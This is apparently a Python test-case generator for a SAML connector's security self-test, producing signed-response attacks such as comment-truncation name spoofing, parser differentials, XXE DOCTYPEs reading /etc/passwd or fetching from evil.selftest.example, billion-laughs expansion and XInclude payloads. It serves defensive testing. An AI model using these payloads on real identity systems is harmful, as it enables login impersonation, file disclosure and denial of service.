"""Octets and markup that readers disagree about: encodings, DOCTYPE, entities, comments, instructions, CDATA.

Most are put into a message whose signature holds all the same, since a canonical form drops or resolves them. In an
encrypted answer they stand in the plaintext, and once more around the ciphertext.
"""

import base64
import secrets
import zlib
from collections.abc import Iterator, Mapping

from connectors.attacks.attack_case import AttackCase
from connectors.attacks.responses.recipes import each, late, said, spelled
from connectors.attacks.responses.response_draft import fresh
from connectors.attacks.responses.settings import Make, Makes, ResponseWorld, Setting, Table, refused
from connectors.attacks.xml_signer import Edit, OctetEdit, swap_octets

SPELLING, DIFFERENTIAL, COMMENT = "spelling of the message", "parser differential", "comment truncation"
INSTRUCTION, ENTITIES = "processing instruction", "external entities"
# What a message becomes, by the check that refuses it
Edits = Mapping[str, Mapping[str, OctetEdit]]


def spelling(world: ResponseWorld) -> Iterator[AttackCase]:
    """One spelling of the parameter, one encoding of the message, and nothing that mends either."""
    yield from refused(SPELLING, world.each, {"base64": _PARAMETERS}, _ENCODINGS)


def differential(world: ResponseWorld) -> Iterator[AttackCase]:
    """One parser reads it, another drops or resolves it (Mattermost 2020; ruby-saml, 2025)."""
    yield from _everywhere(world, DIFFERENTIAL, _READERS)
    split = {"cdata-in-a-value": late("Selftest<", "<![CDATA[Selftest]]><")}
    yield from refused(DIFFERENTIAL, world.each, {"cdata": split})


def comments(world: ResponseWorld) -> Iterator[AttackCase]:
    """A comment cuts a text in two, and a reader that takes the first half reads another name."""
    yield from refused(COMMENT, world.all, {"comment": _in_texts("<!-- -->")})
    ends = {"before-the-message": _before("<!-- -->"), "after-the-message": _after("<!-- -->")}
    yield from _everywhere(world, COMMENT, {"comment": ends})


def instructions(world: ResponseWorld) -> Iterator[AttackCase]:
    """A processing instruction that some canonicalisations turned into text, and some parsers drop."""
    # One the identity provider signed itself, since somebody could choose their name
    signed = {"signed-in-the-name-oneuptime-2988": said(name_id=lambda _, answer: f"{answer.name_id}<?x victim?>")}
    yield from refused(INSTRUCTION, world.all, {"processing_instruction": {**_in_texts("<?x victim?>"), **signed}})
    ends = {
        "stylesheet": _before('<?xml-stylesheet href="https://evil.selftest.example/"?>'),
        "declaration-after-a-blank": _before('\n<?xml version="1.0"?>'),
    }
    yield from _everywhere(world, INSTRUCTION, {"processing_instruction": ends})


def entities(world: ResponseWorld) -> Iterator[AttackCase]:
    """Entities that a reader would fetch, or that grow."""
    doctypes = {what: _before(f"<!DOCTYPE r {text}>") for what, text in _DOCTYPES.items()}
    yield from _everywhere(world, ENTITIES, {"doctype": doctypes})
    yield from refused(ENTITIES, world.each, {"doctype": each(_named_by, _IN_NAMES)}, _INCLUDED)


def posted(octets: bytes) -> bytes:
    """Octets as the parameter of a POST: what does not begin like XML is taken for one."""
    return base64.b64encode(octets)


def _everywhere(world: ResponseWorld, family: str, edits: Edits) -> Iterator[AttackCase]:
    """Each edit of a message in the clear, and of the plaintext of an encrypted one; and around ciphertext."""
    for check, rows in edits.items():
        inside: Makes = {what: as_octets(late=edit) for what, edit in rows.items()}
        yield from refused(family, world.each, {check: inside})
        outside = {f"{what}-around": as_octets(envelope=edit) for what, edit in rows.items()}
        yield from refused(family, (world.eidas,), {check: outside})


def as_octets(**edit: OctetEdit) -> Make:
    """A good answer, edited; as a parameter where it does not begin like XML any more."""

    def make(setting: Setting) -> bytes:
        octets = setting.sent(**edit)  # type: ignore[arg-type] # the names of such parameters
        return octets if octets.startswith(b"<") else posted(octets)

    return make


def _before(text: str) -> OctetEdit:
    return lambda octets: text.encode() + octets


def _after(text: str) -> OctetEdit:
    return lambda octets: octets + text.encode()


def _before_the_end(text: str) -> OctetEdit:
    """Right before the last end tag."""
    return lambda octets: octets[: octets.rindex(b"</")] + text.encode() + octets[octets.rindex(b"</") :]


def _in_texts(inserted: str) -> Makes:
    """A good answer with something inserted in a text that says who somebody is, or for whom, after it was signed."""

    def in_name(place: int) -> Make:
        def make(setting: Setting) -> bytes:
            answer = setting.good
            name = answer.name_id
            cut = place % (len(name) + 1)
            return setting.sent(answer, late=swap_octets(name, name[:cut] + inserted + name[cut:]))

        return make

    return {
        "in-the-name-cve-2017-11427": in_name(9),
        "at-the-begin-of-the-name-cve-2017-11428": in_name(0),
        "at-the-end-of-the-name-cve-2017-11429": in_name(-1),
        "in-an-attribute-value-cve-2018-0489": late("Selftest", f"Selftest{inserted}"),
    }


def _named_by(declarations: str) -> Make:
    """The name is an entity, and would be the signed one if it were resolved."""

    def make(setting: Setting) -> bytes:
        answer = setting.good

        def edit(octets: bytes) -> bytes:
            text = octets.decode().replace(f">{answer.name_id}<", ">&who;<")
            return f"<!DOCTYPE r [{declarations.format(name=answer.name_id)}]>{text}".encode()

        return setting.sent(answer, late=edit)

    return make


def _parameter(edit: Edit) -> Make:
    """The parameter of a good message, edited. White space behind its root makes sure that it has a pad of one sign."""

    def make(setting: Setting) -> bytes:
        octets = setting.sent()
        padded = octets + b"\n" * ((2 - len(octets)) % 3)
        return edit(base64.b64encode(padded).decode()).encode()

    return make


def _octets(edit: OctetEdit) -> Make:
    return lambda setting: posted(edit(setting.sent()))


def _last_letter_changed(text: str) -> str:
    """Two bits of the last letter mean nothing: four spellings of the same octets, of which one is taken."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return text[:-2] + alphabet[alphabet.index(text[-2]) ^ 1] + "="


_PARAMETERS: Makes = {
    "line-breaks-alone": lambda _: b"".join(secrets.choice((b"\n", b"\r\n")) for _ in range(5_000)),
    "with-a-blank": _parameter(lambda text: f"{text[:8]} {text[8:]}"),
    "in-the-alphabet-of-urls": _parameter(lambda text: text.replace("+", "-").replace("/", "_")),
    "without-padding": _parameter(lambda text: text.rstrip("=")),
    "of-another-spelling": _parameter(_last_letter_changed),
    "with-something-behind": _parameter(lambda text: f"{text}PGE+"),
    "with-a-letter-that-looks-the-same": _parameter(lambda text: f"\u0420{text[1:]}"),
}
_ENCODINGS: Table = {
    "not_well_formed": {"encoded-twice": _octets(base64.b64encode)},
    "encoding": {
        "deflated-cve-2025-25293": _octets(lambda octets: zlib.compress(octets, 9, -zlib.MAX_WBITS)),
        "utf-16": _octets(lambda octets: octets.decode().encode("utf-16")),
        "byte-order-mark": _octets(lambda octets: b"\xef\xbb\xbf" + octets),
        "declared-utf-7": _octets(_before('<?xml version="1.0" encoding="UTF-7"?>')),
        "declared-latin-1": _octets(_before('<?xml version="1.0" encoding="ISO-8859-1"?>')),
        "xml-1-1": _octets(_before('<?xml version="1.1"?>')),
        "overlong-octets": _octets(lambda octets: octets.replace(b"/metadata<", b"\xc0\xafmetadata<", 1)),
    },
    "root": {"root-of-four-letters": lambda _: f'<evil ID="{fresh("e")}"></evil>'.encode()},
}
_READERS: Edits = {
    "doctype": {
        "doctype-cve-2025-25291": _before("<!DOCTYPE samlp:Response>"),
        "doctype-of-attributes-cve-2025-25292": _before('<!DOCTYPE r [<!ATTLIST r ID ID "_victim">]>'),
        "notation-inside": _before_the_end('<!NOTATION n SYSTEM "x">'),
    },
    "cdata": {"empty-cdata": _before_the_end("<![CDATA[]]>")},
    "not_well_formed": {
        "second-root": _after("<samlp:Response/>"),
        "text-behind-the-root": _after("x"),
        "attribute-twice": swap_octets('Version="2.0"', 'Version="2.0" Version="2.0"'),
        "prefix-without-namespace": _before_the_end("<evil:x/>"),
        "reference-to-nul": _before_the_end("&#0;"),
        "end-tag-missing": lambda octets: octets[: octets.rindex(b"</")],
    },
    "entity": {
        "entity-that-nobody-declared": _before_the_end("&x;"),
        "ampersand": _before_the_end("& "),
        "reference-beyond-unicode": _before_the_end("&#x0000000041;"),
        "entity-in-an-attribute": lambda octets: octets.replace(b" ID=", b' e="&x;" ID=', 1),
    },
}
_DOCTYPES = {
    "file-cve-2016-10127": 'SYSTEM "file:///etc/passwd"',
    "address-cve-2026-28809": 'SYSTEM "https://evil.selftest.example/x.dtd"',
    "parameter-entity-cve-2016-10149": '[<!ENTITY % x SYSTEM "https://evil.selftest.example/x.dtd"> %x;]',
    "billion-laughs": '[<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]",
}
_IN_NAMES = {
    "name-as-an-entity": '<!ENTITY who "{name}">',
    "name-from-a-file": '<!ENTITY who SYSTEM "file:///etc/hostname">',
}
_XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
_LOCATION = 'xsi:schemaLocation="urn:selftest https://evil.selftest.example/x.xsd"'
# What is signed, and asks a reader to fetch
_INCLUDED: Table = {
    "text": {"xinclude-in-a-value": spelled("Selftest<", f"Selftest{_XINCLUDE}<")},
    "unknown_attribute": {"schema-location": said(assertion_more=f" {_LOCATION}")},
}
